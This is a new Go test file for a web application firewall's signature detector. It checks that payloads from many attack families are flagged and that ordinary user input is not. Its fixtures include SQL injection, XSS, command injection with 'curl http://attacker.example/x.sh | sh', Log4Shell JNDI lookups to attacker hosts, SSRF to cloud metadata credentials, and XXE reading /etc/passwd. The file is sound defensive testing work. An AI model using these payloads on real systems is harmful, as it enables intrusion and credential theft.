@@ -1,0 +1,361 @@
+package signature_test
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"testing"
+
+	"github.com/bulwarkhq/bulwark/threat"
+	"github.com/bulwarkhq/bulwark/threat/signature"
+)
+
+// Public payloads: OWASP cheat sheets, PayloadsAllTheThings, sqlmap's
+// boundaries, the Log4Shell advisories, and real exploit requests from
+// published CVEs. None comes from ../shared/data.
+var attacks = []struct {
+	family string
+	where  string // "q" query value, "path", "ua" User-Agent, "header:Name", "method", "body:type"
+	value  string
+}{
+	// SQL injection
+	{"sqli", "q", "' OR '1'='1"},
+	{"sqli", "q", "1 UNION ALL SELECT NULL,NULL,NULL--"},
+	{"sqli", "q", "1' AND SLEEP(5)#"},
+	{"sqli", "q", "1; DROP TABLE users--"},
+	{"sqli", "q", "admin'--"},
+	{"sqli", "q", "1 AND (SELECT 1 FROM information_schema.tables)"},
+	{"sqli", "q", "1'; WAITFOR DELAY '0:0:5'--"},
+	{"sqli", "q", "1 AND extractvalue(1,concat(0x7e,version()))"},
+	{"sqli", "q", "-1' UNION/**/SELECT/**/username,password/**/FROM/**/users#"},
+	{"sqli", "ua", "Mozilla/5.0' AND 1=(SELECT 1 FROM PG_SLEEP(5))--"},
+	// XSS
+	{"xss", "q", "<script>alert(1)</script>"},
+	{"xss", "q", "<img src=x onerror=alert(document.domain)>"},
+	{"xss", "q", "\"><svg/onload=confirm(1)>"},
+	{"xss", "q", "javascript:alert(document.cookie)"},
+	{"xss", "q", "<iframe src=\"javascript:alert(`xss`)\">"},
+	{"xss", "q", "<body onload=alert('XSS')>"},
+	{"xss", "q", "&lt;script&gt;alert(1)&lt;/script&gt;"},
+	{"xss", "q", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"},
+	// Traversal and file inclusion
+	{"traversal", "q", "../../../../etc/passwd"},
+	{"traversal", "q", "..\\..\\..\\windows\\win.ini"},
+	{"traversal", "q", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"},
+	{"traversal", "q", "....//....//etc/passwd"},
+	{"traversal", "q", "php://filter/convert.base64-encode/resource=index.php"},
+	{"traversal", "q", "file:///etc/shadow"},
+	{"traversal", "q", "http://evil.example/shell.txt?"},
+	{"traversal", "path", "/static/../../../etc/passwd"},
+	// Command injection
+	{"cmdi", "q", "; cat /etc/passwd"},
+	{"cmdi", "q", "| id"},
+	{"cmdi", "q", "`whoami`"},
+	{"cmdi", "q", "$(curl http://attacker.example/x.sh | sh)"},
+	{"cmdi", "q", "127.0.0.1 && ping -c 3 attacker.example"},
+	{"cmdi", "q", "x;${IFS}cat${IFS}/etc/passwd"},
+	{"cmdi", "q", "<!--#exec cmd=\"/bin/ls\"-->"},
+	{"cmdi", "ua", "() { :; }; /bin/bash -c 'cat /etc/passwd'"},
+	{"cmdi", "q", "system('id')"},
+	// SSRF
+	{"ssrf", "q", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
+	{"ssrf", "q", "http://metadata.google.internal/computeMetadata/v1/"},
+	{"ssrf", "q", "http://127.0.0.1:6379/"},
+	{"ssrf", "q", "http://2130706433/admin"},
+	{"ssrf", "q", "http://0x7f000001/"},
+	{"ssrf", "q", "http://[::ffff:127.0.0.1]/"},
+	{"ssrf", "q", "gopher://localhost:6379/_FLUSHALL"},
+	// Code, template, deserialisation
+	{"code", "ua", "${jndi:ldap://attacker.example/a}"},
+	{"code", "header:X-Api-Version", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"},
+	{"code", "header:Referer", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/x}"},
+	{"code", "q", "{{7*7}}"},
+	{"code", "q", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"},
+	{"code", "q", "${T(java.lang.Runtime).getRuntime().exec('id')}"},
+	{"code", "q", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"},
+	{"code", "q", "%{(#_memberAccess['allowStaticMethodAccess']=true)}"},
+	{"code", "q", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ=="},
+	{"code", "q", `O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}`},
+	{"code", "q", "<?php system($_GET['c']); ?>"},
+	{"code", "body:application/xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`},
+	{"code", "body:application/json", `{"__proto__":{"isAdmin":true}}`},
+	{"code", "body:application/json", `{"user":{"$ne":null},"password":{"$ne":null}}`},
+	{"code", "q", "*)(uid=*))(|(uid=*"},
+	{"code", "q", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"},
+	// Scanners
+	{"scanner", "ua", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
+	{"scanner", "ua", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"},
+	{"scanner", "ua", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"},
+	{"scanner", "ua", "Fuzz Faster U Fool v2.1.0"},
+	{"scanner", "path", "/.env"},
+	{"scanner", "path", "/.git/config"},
+	{"scanner", "path", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
+	{"scanner", "header:Acunetix-Product", "WVS/14.0"},
+	// Protocol
+	{"protocol", "method", "TRACE"},
+	{"protocol", "header:Transfer-Encoding", "chunked"}, // with a Content-Length, below
+	{"protocol", "header:Range", "bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7,7-8,8-9,9-10,10-11,11-12"},
+	{"protocol", "q", "x\r\nSet-Cookie: session=attacker"},
+	{"protocol", "header:Content-Type", "text/html; charset=UTF-7"},
+}
+
+// Benign values: what real users and browsers send, including the shapes
+// that trip naive filters (apostrophes, ampersands, URLs, code words).
+var benign = []struct{ where, value string }{
+	{"q", "O'Brien"},
+	{"q", "Tom & Jerry"},
+	{"q", "AT&T customer service"},
+	{"q", "rock and roll or jazz"},
+	{"q", "select a size"},
+	{"q", "C++ programming"},
+	{"q", "1/2 inch copper pipe"},
+	{"q", "john.doe+shop@example.com"},
+	{"q", "https://www.example.com/products?id=42&ref=home"},
+	{"q", "c/ caridad s/n, 3º 2ª"},
+	{"q", "¿Dónde está la estación?"},
+	{"q", "2024-05-01T10:00:00Z"},
+	{"q", "price < 100 and rating > 4"},
+	{"q", "how to use the cat command"},
+	{"q", "The Who - Live at Leeds"},
+	{"q", "10.0.0.0/8 subnet calculator"},
+	{"q", "email me: a.b@c.de; thanks!"},
+	{"q", "{\"size\":\"M\",\"color\":\"red\"}"},
+	{"q", "50% off -- today only!"},
+	{"q", "Drop me a line (at) example"},
+	{"ua", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"},
+	{"ua", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"},
+	{"ua", "curl/8.5.0"},
+	{"header:Referer", "https://www.google.com/search?q=running+shoes&oq=running"},
+	{"header:Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
+	{"path", "/api/v1/orders/123/items"},
+	{"path", "/assets/app.3f2a1c.min.js"},
+	{"body:application/json", `{"name":"Ana","address":{"street":"Calle Mayor 1","city":"Madrid"},"tags":["a","b"]}`},
+}
+
+// build makes a request carrying value where the case says.
+func build(t testing.TB, where, value string) *http.Request {
+	t.Helper()
+	method, target := "GET", "/search"
+	var body string
+	var ctype string
+	switch {
+	case where == "q":
+		target = "/search?q=" + url.QueryEscape(value) + "&page=1"
+	case where == "path":
+		target = value
+	case where == "method":
+		method = value
+	case strings.HasPrefix(where, "body:"):
+		method, body, ctype = "POST", value, strings.TrimPrefix(where, "body:")
+	}
+	r := httptest.NewRequest(method, "http://shop.example"+target, strings.NewReader(body))
+	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36")
+	r.Header.Set("Accept-Language", "en-US,en;q=0.5")
+	if ctype != "" {
+		r.Header.Set("Content-Type", ctype)
+	}
+	switch {
+	case where == "ua":
+		r.Header.Set("User-Agent", value)
+	case strings.HasPrefix(where, "header:"):
+		name := strings.TrimPrefix(where, "header:")
+		r.Header[http.CanonicalHeaderKey(name)] = []string{value}
+		if name == "Transfer-Encoding" {
+			r.Header.Set("Content-Length", "4")
+		}
+	}
+	return r
+}
+
+func detect(t testing.TB, d threat.Detector, r *http.Request) []threat.Signal {
+	t.Helper()
+	req := threat.NewRequest(r, "client", "", threat.Limits{})
+	return d.Detect(req, nil)
+}
+
+func TestAttacksAreFoundByTheirFamily(t *testing.T) {
+	d, err := signature.New(signature.Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range attacks {
+		sigs := detect(t, d, build(t, c.where, c.value))
+		best := 0.0
+		for _, s := range sigs {
+			if s.Detector == c.family && s.Confidence > best {
+				best = s.Confidence
+			}
+			if s.Family != signature.Family || s.Rule == "" || s.Location == "" || len(s.Evidence) > 48 {
+				t.Errorf("%q: malformed signal %+v", c.value, s)
+			}
+		}
+		if best < 0.9 {
+			t.Errorf("%s in %s %q: best %s confidence %.2f, want >= 0.9 (signals %v)", c.family, c.where, c.value, c.family, best, rulesOf(sigs))
+		}
+	}
+}
+
+func TestBenignValuesRaiseNoStrongSignal(t *testing.T) {
+	d, err := signature.New(signature.Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range benign {
+		for _, s := range detect(t, d, build(t, c.where, c.value)) {
+			if s.Confidence >= 0.9 {
+				t.Errorf("benign %s %q: %s (%.2f) at %s: %q", c.where, c.value, s.Rule, s.Confidence, s.Location, s.Evidence)
+			}
+		}
+	}
+}
+
+// The verdict cache remembers clean header values only: a payload in a
+// header is found on every request, including after the same rule already
+// fired elsewhere in an earlier request.
+func TestVerdictCacheNeverHidesAPayload(t *testing.T) {
+	d, err := signature.New(signature.Config{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	payload := "' OR 1=1-- "
+	first := build(t, "q", payload) // the rule fires on the query value...
+	first.Header.Set("Referer", payload)
+	if !hasFamily(detect(t, d, first), "sqli") {
+		t.Fatal("payload not found in the first request")
+	}
+	for i := 0; i < 3; i++ { // ...and the header alone is still caught
+		r := build(t, "header:Referer", payload)
+		if !hasFamily(detect(t, d, r), "sqli") {
+			t.Fatalf("request %d: payload in Referer missed after caching", i)
+		}
+	}
+	// A clean value seen many times stays clean and costs nothing new.
+	for i := 0; i < 3; i++ {
+		if sigs := detect(t, d, build(t, "ua", benign[20].value)); len(sigs) > 0 {
+			t.Fatalf("clean user agent flagged: %v", rulesOf(sigs))
+		}
+	}
+}
+
+func TestOneSignalPerRuleAndRequest(t *testing.T) {
+	d, _ := signature.New(signature.Config{})
+	q := url.Values{}
+	for i := 0; i < 50; i++ {
+		q.Add("p"+string(rune('a'+i%26))+string(rune('a'+i/26)), "' OR '1'='1")
+	}
+	r := httptest.NewRequest("GET", "/x?"+q.Encode(), nil)
+	seen := map[string]bool{}
+	for _, s := range detect(t, d, r) {
+		if seen[s.Rule] {
+			t.Fatalf("rule %s reported twice", s.Rule)
+		}
+		seen[s.Rule] = true
+	}
+	if !seen["sqli.libinjection"] {
+		t.Fatalf("want sqli.libinjection among %v", seen)
+	}
+}
+
+func TestDisable(t *testing.T) {
+	d, err := signature.New(signature.Config{Disable: []string{"sqli", "scanner"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := strings.Join(d.Detectors(), ","); got != "xss,traversal,cmdi,ssrf,code,protocol" {
+		t.Fatalf("Detectors() = %s", got)
+	}
+	if sigs := detect(t, d, build(t, "q", "' OR '1'='1")); hasFamily(sigs, "sqli") {
+		t.Fatal("disabled family still reports")
+	}
+	if sigs := detect(t, d, build(t, "ua", "sqlmap/1.7")); hasFamily(sigs, "scanner") {
+		t.Fatal("disabled scanner family still reports")
+	}
+	if _, err := signature.New(signature.Config{Disable: []string{"sqlinjection"}}); err == nil || !strings.Contains(err.Error(), "Config.Disable") {
+		t.Fatalf("unknown family: err = %v, want one naming Config.Disable", err)
+	}
+	if _, err := signature.New(signature.Config{MaxScan: -1}); err == nil || !strings.Contains(err.Error(), "MaxScan") {
+		t.Fatalf("negative MaxScan: err = %v", err)
+	}
+}
+
+func TestMaxScanBoundsWork(t *testing.T) {
+	d, _ := signature.New(signature.Config{MaxScan: 64})
+	// The payload sits after the scanned prefix: bounded work means it is
+	// not seen, and the evidence of what is seen stays bounded.
+	v := strings.Repeat("a", 100) + "<script>alert(1)</script>"
+	if sigs := detect(t, d, build(t, "q", v)); hasFamily(sigs, "xss") {
+		t.Fatalf("value beyond MaxScan inspected: %v", rulesOf(sigs))
+	}
+	d, _ = signature.New(signature.Config{})
+	if sigs := detect(t, d, build(t, "q", v)); !hasFamily(sigs, "xss") {
+		t.Fatal("default MaxScan misses a payload at byte 100")
+	}
+}
+
+func hasFamily(sigs []threat.Signal, family string) bool {
+	for _, s := range sigs {
+		if s.Detector == family {
+			return true
+		}
+	}
+	return false
+}
+
+func rulesOf(sigs []threat.Signal) []string {
+	var out []string
+	for _, s := range sigs {
+		out = append(out, s.Rule)
+	}
+	return out
+}
+
+func FuzzDetect(f *testing.F) {
+	for _, c := range attacks {
+		f.Add(c.value, "q")
+	}
+	for _, c := range benign {
+		f.Add(c.value, "ua")
+	}
+	f.Add("\xff\xfe%00%%%u0000${${", "header:X-Api-Version")
+	d, err := signature.New(signature.Config{})
+	if err != nil {
+		f.Fatal(err)
+	}
+	f.Fuzz(func(t *testing.T, value, where string) {
+		switch where {
+		case "q", "ua", "path", "header:Referer", "header:X-Api-Version", "body:application/json", "body:text/plain":
+		default:
+			where = "q"
+		}
+		if where == "path" && !strings.HasPrefix(value, "/") {
+			value = "/" + value
+		}
+		r, err := http.NewRequest("POST", "http://x/search", strings.NewReader(value))
+		if err != nil {
+			return
+		}
+		switch {
+		case where == "q":
+			r.URL.RawQuery = "q=" + value
+		case where == "path":
+			r.URL.Path = value
+		case where == "ua":
+			r.Header.Set("User-Agent", value)
+		case strings.HasPrefix(where, "header:"):
+			r.Header.Set(strings.TrimPrefix(where, "header:"), value)
+		default:
+			r.Header.Set("Content-Type", strings.TrimPrefix(where, "body:"))
+		}
+		for _, s := range detect(t, d, r) {
+			if s.Confidence <= 0 || s.Confidence > 1 || len(s.Evidence) > 48 || len(s.Location) > 80 {
+				t.Fatalf("bad signal %+v", s)
+			}
+			for i := 0; i < len(s.Evidence); i++ {
+				if c := s.Evidence[i]; c < 0x20 || c >= 0x7f {
+					t.Fatalf("unprintable evidence %q", s.Evidence)
+				}
+			}
+		}
+	})
+}
